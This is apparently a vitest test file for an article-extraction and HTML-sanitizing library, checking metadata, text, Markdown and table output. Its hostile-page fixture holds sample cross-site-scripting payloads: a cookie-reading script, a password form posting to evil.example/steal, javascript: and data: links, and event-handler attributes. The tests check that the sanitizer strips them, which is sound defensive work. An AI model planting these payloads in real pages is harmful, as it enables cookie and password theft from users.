import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import type { ExtractResult } from '../../src/article';
import { extract, extractInSlices, SLICE_COUNT, type StepTiming } from '../../src/extract';
import { STEPS } from '../../src/pipeline/index';
import { pageOf } from '../helpers/fixtures';
import { articlePage, PAGE_URL, paragraphs, PROSE } from '../pipeline/draft';

type Article = Extract<ExtractResult, { ok: true }>;

function ok(result: ExtractResult): Article {
  if (!result.ok) throw new Error(`expected an article, got ${result.reason}: ${result.message}`);
  return result;
}

const TABLE = `<table><caption>Budget</caption><thead><tr><th>Poste</th><th>Montant</th></tr></thead>
<tbody><tr><td>Bassin</td><td>2,5 M€</td></tr><tr><td>Vestiaires</td><td>1,5 M€</td></tr></tbody></table>`;

const FULL_PAGE = `<!doctype html><html lang="fr"><head><meta charset="utf-8">
<title>Piscine Jean-Moulin : les travaux démarrent | Le Quotidien</title>
<meta property="og:title" content="Piscine Jean-Moulin : les travaux démarrent">
<meta property="og:site_name" content="Le Quotidien">
<meta name="author" content="Marie Dupont">
<meta property="og:image" content="/img/piscine.jpg">
</head><body>
<header><nav><a href="/">Accueil</a> <a href="/sport/">Sport</a></nav></header>
<main><article>
<h1>Piscine Jean-Moulin : les travaux démarrent</h1>
${paragraphs('fr')}
<h2>Le budget</h2>
${TABLE}
<p>${PROSE.fr[0].replace('Le conseil', 'Selon <a href="/conseil/">le conseil</a>, le conseil')}</p>
</article></main>
<footer><p>Mentions légales</p></footer>
</body></html>`;

const HOSTILE_PAGE = `<!doctype html><html lang="en"><head><title>Library to be rebuilt</title>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><style>p { color: red }</style>
<script>window.stolen = document.cookie</script></head>
<body><article><h1>Library to be rebuilt</h1>
<p onclick="alert(1)">${PROSE.en[0]}</p>
<p>${PROSE.en[1]} <a href="javascript:alert(1)">Click here</a> and <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">this</a> and <a href="https://news.example/related">the plan</a>.</p>
<form action="https://evil.example/steal"><input name="password" type="password"><button>Send</button></form>
<p>${PROSE.en[2]}<img src="x" onerror="alert(1)"></p>
<iframe src="https://www.youtube.com/embed/abc123" title="Tour of the site"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">
<script>alert('inline')</script>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="svg">
</article></body></html>`;

describe('extract', () => {
  it('never mutates the live document', () => {
    const page = pageOf(
      `<!doctype html><html lang="en"><head><title>Library</title><base href="https://cdn.example/"></head><body>
      <form><input name="parentNode"></form><img name="body" src="/logo.png">
      <article><h1>Library</h1>${paragraphs('en')}
      <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="/img/library.jpg" alt="">
      <div hidden>Hidden</div><p style="display:none">Gone</p>
      <iframe src="https://www.youtube.com/embed/abc"></iframe></article></body></html>`,
      PAGE_URL,
    );
    const before = page.documentElement.outerHTML;
    const result = extract(page, PAGE_URL, { siteRuleLines: ['h1'] });
    expect(result.ok).toBe(true);
    expect(page.documentElement.outerHTML).toBe(before);
  });

  it('cleans a document it owns (the reader\'s own parse) to the same article as from a copy', () => {
    for (const [html, url] of [[FULL_PAGE, 'https://www.example-news.fr/sport/piscine.html'], [HOSTILE_PAGE, PAGE_URL]] as const) {
      const copied = ok(extract(pageOf(html, url), url));
      const owned = ok(extract(pageOf(html, url), url, { ownsSource: true }));
      expect({ ...owned }).toEqual({ ...copied });
    }
    // The page's <base href> still decides its relative URLs, although the owned copy loses it.
    const based = `<!doctype html><html lang="en"><head><title>Library</title><base href="https://cdn.example/a/"></head><body>
      <article><h1>Library</h1>${paragraphs('en')}<p><a href="plan.html">The plan</a> ${PROSE.en[0]}</p></article></body></html>`;
    expect(ok(extract(pageOf(based, PAGE_URL), PAGE_URL, { ownsSource: true })).html).toContain('href="https://cdn.example/a/plan.html"');
  });

  it('in slices, gives the same article and reports its progress between slices', async () => {
    const html = articlePage('fr', '<p>La suite après la publicité</p>');
    const whole = ok(extract(pageOf(html), PAGE_URL));
    const progress: number[] = [];
    // A budget of 0 ms: it yields after every slice, as it would on a heavy page.
    const sliced = ok(await extractInSlices(pageOf(html), PAGE_URL, {}, (done, total) => progress.push(done / total), 0));
    // The marks of Restore carry a fresh nonce each run (a page cannot guess them): the same otherwise.
    const unmarked = (a: typeof whole) => JSON.parse(JSON.stringify({ ...a }).replaceAll(a.restorable?.nonce ?? '\u0000', 'NONCE')) as unknown;
    expect(unmarked(sliced)).toEqual(unmarked(whole));
    expect(progress).toHaveLength(SLICE_COUNT - 1);
    expect(progress).toEqual([...progress].sort((a, b) => a - b));
    expect(progress.at(-1)).toBeLessThan(1);
    // Quick pages run without yielding: no progress to show.
    const quiet: number[] = [];
    await extractInSlices(pageOf(html), PAGE_URL, {}, (done) => quiet.push(done), 60_000);
    expect(quiet).toEqual([]);
    // Failures come back as results, as from `extract`.
    expect(await extractInSlices(null as unknown as Document, PAGE_URL)).toMatchObject({ ok: false, reason: 'bad-input' });
  });

  it('makes the Markdown when it is first read, and it travels in messages and JSON', () => {
    const timings: StepTiming[] = [];
    const article = ok(extract(pageOf(articlePage('en')), PAGE_URL, {}, timings));
    expect(timings.some((t) => t.step.includes('markdown'))).toBe(false);
    expect(article.markdown).toMatch(/^# /);
    expect(article.markdown).toContain(PROSE.en[0]!.slice(0, 40));
    expect(structuredClone(article).markdown).toBe(article.markdown);
    expect((JSON.parse(JSON.stringify(article)) as { markdown: string }).markdown).toBe(article.markdown);
  });

  it.each([
    ['null', null],
    ['undefined', undefined],
    ['a string', '<p>html</p>'],
    ['a plain object', { nodeType: 1 }],
    ['an element, not a document', new JSDOM('<p>x</p>').window.document.body],
  ])('refuses %s as bad-input without throwing', (_label, input) => {
    let result: ExtractResult | undefined;
    expect(() => (result = extract(input as unknown as Document, PAGE_URL))).not.toThrow();
    expect(result).toMatchObject({ ok: false, reason: 'bad-input' });
    expect((result as { message: string }).message.length).toBeGreaterThan(10);
  });

  it.each([['not a url'], [''], ['/relative/path']])('refuses the invalid address %j as bad-input', (url) => {
    const result = extract(pageOf(articlePage('en')), url);
    expect(result).toMatchObject({ ok: false, reason: 'bad-input' });
  });

  it('refuses a non-string address as bad-input', () => {
    expect(extract(pageOf(articlePage('en')), 42 as unknown as string)).toMatchObject({ ok: false, reason: 'bad-input' });
  });

  it('refuses a page over the element budget as too-large', () => {
    const result = extract(pageOf(articlePage('de')), PAGE_URL, { maxElements: 10 });
    expect(result).toMatchObject({ ok: false, reason: 'too-large' });
  });

  it('treats an undefined option as its default', () => {
    expect(extract(pageOf(articlePage('es')), PAGE_URL, { maxElements: undefined, siteRuleLines: undefined, force: undefined }).ok).toBe(true);
  });

  it('refuses a home page as not-an-article, and offers force to clean it anyway', () => {
    const links = Array.from({ length: 30 }, (_, i) => `<li><a href="/n/${i}">Headline ${i} about something that happened in town today</a></li>`).join('');
    const page = `<!doctype html><html lang="en"><head><title>Home</title></head><body><main><ul>${links}</ul></main></body></html>`;
    const refused = extract(pageOf(page), PAGE_URL);
    expect(refused).toMatchObject({ ok: false, reason: 'not-an-article' });
    expect(extract(pageOf(page), PAGE_URL, { force: true }).ok).toBe(true);
  });

  describe('outputs of an article', () => {
    const article = ok(extract(pageOf(FULL_PAGE, 'https://www.example-news.fr/sport/piscine.html'), 'https://www.example-news.fr/sport/piscine.html'));

    it('reports the metadata', () => {
      expect(article).toMatchObject({
        title: 'Piscine Jean-Moulin : les travaux démarrent',
        byline: 'Marie Dupont',
        siteName: 'Le Quotidien',
        lang: 'fr',
        url: 'https://www.example-news.fr/sport/piscine.html',
        leadImage: 'https://www.example-news.fr/img/piscine.jpg',
      });
    });

    it('gives plain text with paragraphs separated by blank lines, without the title or the page chrome', () => {
      const paras = article.text.split('\n\n');
      expect(paras).toContain(PROSE.fr[1]);
      expect(paras).toContain(PROSE.fr[2]);
      expect(article.text.startsWith(article.title)).toBe(false);
      expect(article.text).not.toContain('Mentions légales');
      expect(article.text).not.toMatch(/\n{3,}/);
      expect(article.text).toBe(article.text.trim());
    });

    it('gives Markdown that opens with the title, the source and the byline', () => {
      const lines = article.markdown.split('\n');
      expect(lines[0]).toBe('# Piscine Jean-Moulin : les travaux démarrent');
      expect(lines[1]).toBe('');
      // The source line names the site, links the page and gives the byline, in no language
      // (no English "Source:" or "By:" on a French article).
      expect(lines[2]).toMatch(/^\[Le Quotidien\]\(https:\/\/www\.example-news\.fr\/sport\/piscine\.html\) · Marie Dupont( · \d{4}-\d{2}-\d{2})?$/);
      expect(article.markdown).not.toMatch(/Source:|By:/);
      expect(article.markdown).toContain(PROSE.fr[1]);
    });

    it('keeps the table, as a table in HTML and a GFM pipe table in Markdown', () => {
      expect(article.html).toContain('<table');
      expect(article.text).toContain('Bassin\t2,5 M€');
      expect(article.markdown).toMatch(/\|\s*Poste\s*\|\s*Montant\s*\|\n\|\s*-{3,}\s*\|\s*-{3,}\s*\|/);
      expect(article.markdown).toMatch(/\|\s*Vestiaires\s*\|\s*1,5 M€\s*\|/);
    });

    it('counts words sensibly and estimates reading time', () => {
      const naive = article.text.split(/\s+/).filter((w) => /\p{L}/u.test(w)).length;
      expect(article.wordCount).toBeGreaterThan(naive * 0.9);
      expect(article.wordCount).toBeLessThan(naive * 1.3);
      expect(article.readingMinutes).toBe(1);
    });

    it('makes relative links absolute and opens them in a new tab', () => {
      const doc = new JSDOM(`<body>${article.html}`).window.document;
      const link = doc.querySelector('a')!;
      expect(link.getAttribute('href')).toBe('https://www.example-news.fr/conseil/');
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    });
  });

  it('takes reading time from the length of a long article', () => {
    const long = Array.from({ length: 12 }, () => paragraphs('en')).join('');
    const article = ok(extract(pageOf(`<!doctype html><html lang="en"><head><title>Long read</title></head><body><article><h1>Long read</h1>${long}</article></body></html>`), PAGE_URL));
    expect(article.wordCount).toBeGreaterThan(1000);
    expect(article.readingMinutes).toBe(Math.round(article.wordCount / 230));
  });

  describe('sanitized HTML of a hostile page', () => {
    const article = ok(extract(pageOf(HOSTILE_PAGE, PAGE_URL), PAGE_URL));
    const html = article.html.toLowerCase();

    it('keeps every paragraph', () => {
      for (const p of PROSE.en) expect(article.text).toContain(p);
    });

    it.each(['<script', '<form', '<input', '<button', '<base', '<meta', '<link', '<style', '<iframe', '<object', '<embed', '<svg'])('contains no %s', (tag) => {
      expect(html).not.toContain(tag);
    });

    it('contains no event handlers, javascript: or data:text/html addresses, inline styles', () => {
      expect(html).not.toMatch(/\son[a-z]+\s*=/);
      expect(html).not.toContain('javascript:');
      expect(html).not.toContain('data:text/html');
      expect(html).not.toContain('data:image/svg+xml');
      expect(html).not.toContain('style=');
    });

    it('gives every link target=_blank and rel="noopener noreferrer"', () => {
      const doc = new JSDOM(`<body>${article.html}`).window.document;
      const links = Array.from(doc.querySelectorAll('a[href]'));
      expect(links.length).toBeGreaterThan(0);
      for (const a of links) {
        expect(a.getAttribute('target')).toBe('_blank');
        expect(a.getAttribute('rel')).toBe('noopener noreferrer');
      }
    });

    it('keeps the ordinary link', () => {
      expect(html).toContain('href="https://news.example/related"');
    });

    it('turns the embedded video into a link', () => {
      expect(article.html).toContain('href="https://www.youtube.com/embed/abc123"');
    });

    it('keeps the dangers out of the Markdown too', () => {
      const md = article.markdown.toLowerCase();
      expect(md).not.toContain('javascript:');
      expect(md).not.toContain('<script');
      expect(md).not.toContain('data:text/html');
    });
  });

  it('reports a timing for every step when asked', () => {
    const timings: StepTiming[] = [];
    ok(extract(pageOf(articlePage('it')), PAGE_URL, {}, timings));
    expect(timings.map((t) => t.step)).toEqual(['copy-page', ...STEPS.map((s) => s.name), 'sanitize', 'render-text', 'render-html']);
    for (const t of timings) expect(t.ms).toBeGreaterThanOrEqual(0);
  });

  it('records what it removed, each with its step, rule and text', () => {
    const article = ok(extract(pageOf(articlePage('de', '<div style="display:none">Versteckt</div>')), PAGE_URL));
    expect(article.removals).toContainEqual({ step: 'remove-hidden', rule: 'inline-style', text: 'Versteckt' });
    const names = new Set(['apply-site-selectors', ...STEPS.map((s) => s.name)]);
    for (const r of article.removals) expect(names.has(r.step)).toBe(true);
  });
});
